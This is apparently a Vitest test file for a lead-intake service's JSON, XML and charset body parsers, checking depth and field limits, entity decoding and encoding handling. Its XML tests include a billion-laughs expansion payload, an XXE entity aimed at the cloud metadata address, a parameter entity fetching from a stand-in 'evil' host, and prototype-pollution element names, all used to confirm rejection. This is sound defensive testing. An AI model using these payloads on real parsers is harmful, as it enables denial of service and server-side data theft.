import { describe, expect, it } from "vitest";
import { parseJsonBody, parseXmlBody } from "@/lib/intake/body-parsers";
import { decodeBody, encodingFor, xmlDeclaredEncoding } from "@/lib/intake/charset";
import { IntakeError } from "@/lib/intake/errors";

const LIMITS = { maxDepth: 32, maxFields: 10_000 };

function errorOf(fn: () => unknown): IntakeError {
  try {
    fn();
  } catch (e) {
    if (e instanceof IntakeError) return e;
    throw e;
  }
  throw new Error("expected an IntakeError");
}

describe("JSON bodies (spec 07 §1.3.3)", () => {
  it("keeps nested objects, arrays, numbers and booleans", () => {
    expect(parseJsonBody('{"a":{"b":[1,"2",true,null]},"c":1.5}', LIMITS)).toEqual({ a: { b: [1, "2", true, null] }, c: 1.5 });
  });

  it("retries once without raw CR, LF and TAB (ap-code tests)", () => {
    expect(parseJsonBody('{\n  "first_name": "Harold",\n  "address_1": "123\t Main St"\n}', LIMITS)).toEqual({
      first_name: "Harold",
      address_1: "123 Main St",
    });
    expect(parseJsonBody('{"first_name":"Harold","address_1":"123 \n      Main St"}', LIMITS)).toEqual({
      first_name: "Harold",
      address_1: "123       Main St",
    });
    expect(parseJsonBody('{"a":"Apt.\r\n123"}', LIMITS)).toEqual({ a: "Apt.123" });
  });

  it("unparseable after the retry → 400 with the parser's message", () => {
    const e = errorOf(() => parseJsonBody('{"first_name": "Ann', LIMITS));
    expect(e.status).toBe(400);
    expect(e.body).toMatch(/^Unable to parse JSON -- \S/);
    expect(e.isJson).toBe(false);
  });

  it.each(["[1,2]", '"x"', "42", "true", "null"])("non-object %s → 400 body must be a JSON object", (body) => {
    expect(errorOf(() => parseJsonBody(body, LIMITS)).body).toBe("Unable to parse JSON -- body must be a JSON object");
  });

  it("depth boundary: 32 levels pass, 33 fail", () => {
    const nest = (n: number) => '{"a":'.repeat(n - 1) + "{}" + "}".repeat(n - 1);
    expect(() => parseJsonBody(nest(32), LIMITS)).not.toThrow();
    expect(errorOf(() => parseJsonBody(nest(33), LIMITS)).body).toBe("Unable to parse JSON -- nested deeper than 32 levels");
  });

  it("a huge array in a field counts against the field cap", () => {
    const body = `{"a":[${Array(10_001).fill("1").join(",")}]}`;
    expect(errorOf(() => parseJsonBody(body, LIMITS)).body).toBe("Unable to parse JSON -- more than 10000 fields");
  });
});

describe("XML bodies (spec 07 §1.3.5)", () => {
  it("the spec example", () => {
    const xml = `<lead><first_name>Joe</first_name><phone_1>5127891111</phone_1>
      <address type="home"><city>Austin</city></address><tag>a</tag><tag>b</tag></lead>`;
    expect(parseXmlBody(xml, LIMITS)).toEqual({
      first_name: "Joe",
      phone_1: "5127891111",
      address: { type: "home", city: "Austin" },
      tag: ["a", "b"],
    });
  });

  it("the ap-code example with a declaration and indentation; any root name", () => {
    const xml = `<?xml version="1.0"?>\n<submission>\n  <first_name>Joe</first_name>\n  <last_name>Blow</last_name>\n  <email>jblow@test.com</email>\n  <phone_1>5127891111</phone_1>\n</submission>`;
    expect(parseXmlBody(xml, LIMITS)).toEqual({ first_name: "Joe", last_name: "Blow", email: "jblow@test.com", phone_1: "5127891111" });
  });

  it("text beside attributes goes under _, empty elements are empty strings, values stay strings", () => {
    expect(parseXmlBody('<lead><price currency="USD">12.50</price><x/><y></y><n>007</n><b>true</b></lead>', LIMITS)).toEqual({
      price: { currency: "USD", _: "12.50" },
      x: "",
      y: "",
      n: "007",
      b: "true",
    });
  });

  it("decodes predefined entities, numeric references and CDATA; leaves unknown entities", () => {
    expect(
      parseXmlBody('<lead><a>A &amp; B &lt;C&gt; &quot;&apos;</a><b>&#233;&#x1F600;&#0;</b><c><![CDATA[x<y&z]]></c><d>&nbsp;</d><e k="&#66;&amp;"/></lead>', LIMITS),
    ).toEqual({ a: "A & B <C> \"'", b: "é😀\uFFFD", c: "x<y&z", d: "&nbsp;", e: { k: "B&" } });
  });

  it("root without children gives no fields", () => {
    expect(parseXmlBody("<lead/>", LIMITS)).toEqual({});
    expect(parseXmlBody("<lead>just text</lead>", LIMITS)).toEqual({});
  });

  it.each([
    ["xxTrustedFormCertUrl=https://cert.trustedform.com/testtoken"],
    ["<lead><a>"],
    ["<lead><a></b></lead>"],
    ["<a>1</a><b>2</b>"],
    ["<lead><e>a & b</e></lead>"],
    ['<lead><x a="1" a="2"/></lead>'],
  ])("not well-formed %j → 400", (xml) => {
    const e = errorOf(() => parseXmlBody(xml, LIMITS));
    expect(e.status).toBe(400);
    expect(e.body).toMatch(/^Body does not contain XML or XML is unparseable -- .+\.$/);
    expect(e.body).not.toContain("\n");
  });

  it("refuses any DOCTYPE with entity declarations (billion laughs, XXE)", () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`,
    ).join("")}]><lolz>&lol9;</lolz>`;
    expect(errorOf(() => parseXmlBody(laughs, LIMITS)).body).toBe(
      "Body does not contain XML or XML is unparseable -- DOCTYPE with entity declarations is not allowed.",
    );
    const xxe = '<!DOCTYPE lead [<!ENTITY x SYSTEM "http://169.254.169.254/">]><lead><a>&x;</a></lead>';
    expect(errorOf(() => parseXmlBody(xxe, LIMITS)).status).toBe(400);
    const parameter = '<!DOCTYPE lead [<!entity % p SYSTEM "http://evil/">%p;]><lead/>';
    expect(errorOf(() => parseXmlBody(parameter, LIMITS)).status).toBe(400);
  });

  it("a DOCTYPE without entities is allowed and not fetched", () => {
    expect(parseXmlBody('<!DOCTYPE lead SYSTEM "http://example.com/lead.dtd"><lead><a>1</a></lead>', LIMITS)).toEqual({ a: "1" });
  });

  it("prototype names: __proto__ and constructor elements are refused, others kept safely", () => {
    expect(errorOf(() => parseXmlBody("<lead><__proto__><x>1</x></__proto__></lead>", LIMITS)).status).toBe(400);
    expect(errorOf(() => parseXmlBody("<lead><constructor>1</constructor></lead>", LIMITS)).status).toBe(400);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it("depth boundary: 32 levels below the root pass, 33 fail", () => {
    const nest = (n: number) => "<lead>" + "<a>".repeat(n) + "1" + "</a>".repeat(n) + "</lead>";
    expect(() => parseXmlBody(nest(32), LIMITS)).not.toThrow();
    expect(errorOf(() => parseXmlBody(nest(33), LIMITS)).body).toBe(
      "Body does not contain XML or XML is unparseable -- nested deeper than 32 levels.",
    );
  });

  it("10,000 fields pass; 10,001 are refused", () => {
    const doc = (n: number) => `<lead>${Array.from({ length: n }, (_, i) => `<f${i}>v</f${i}>`).join("")}</lead>`;
    expect(Object.keys(parseXmlBody(doc(10_000), LIMITS))).toHaveLength(10_000);
    expect(errorOf(() => parseXmlBody(doc(10_001), LIMITS)).body).toBe(
      "Body does not contain XML or XML is unparseable -- more than 10000 fields.",
    );
  });
});

describe("charsets (spec 07 §1.3.2)", () => {
  const bytes = (...parts: (string | number)[]) =>
    new Uint8Array(parts.flatMap((p) => (typeof p === "number" ? [p] : [...new TextEncoder().encode(p)])));

  it("resolves the honoured labels; others are null (→ UTF-8)", () => {
    expect(encodingFor("UTF-8")).toBe("utf-8");
    expect(encodingFor("utf8")).toBe("utf-8");
    for (const l of ["us-ascii", "ascii", "iso-8859-1", "latin1", "windows-1252", "cp1252"]) expect(encodingFor(l)).toBe("windows-1252");
    expect(encodingFor("utf-16")).toBeNull();
    expect(encodingFor("shift_jis")).toBeNull();
  });

  it("decodes windows-1252 including 0x80–0x9F", () => {
    expect(decodeBody(bytes("caf", 0xe9, " ", 0x80, 0x93, "q", 0x94, 0x9f), "windows-1252")).toBe("café €“q”Ÿ");
    expect(decodeBody(bytes(0x81, 0x8d), "latin1")).toBe("\u0081\u008d");
  });

  it("UTF-8 by default, invalid sequences → U+FFFD, BOM dropped", () => {
    expect(decodeBody(bytes("a", 0xff, "b", 0xc3), null)).toBe("a\uFFFDb\uFFFD");
    expect(decodeBody(bytes(0xef, 0xbb, 0xbf, "x"), "utf-8")).toBe("x");
    expect(decodeBody(bytes("é"), "utf-16")).toBe("é");
  });

  it("reads the XML declaration's encoding", () => {
    expect(xmlDeclaredEncoding(bytes('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'))).toBe("iso-8859-1");
    expect(xmlDeclaredEncoding(bytes(0xef, 0xbb, 0xbf, "  <?xml version='1.0' encoding='windows-1252' ?><a/>"))).toBe("windows-1252");
    expect(xmlDeclaredEncoding(bytes('<?xml version="1.0"?><a encoding="latin1"/>'))).toBeNull();
    expect(xmlDeclaredEncoding(bytes("<a/>"))).toBeNull();
  });
});
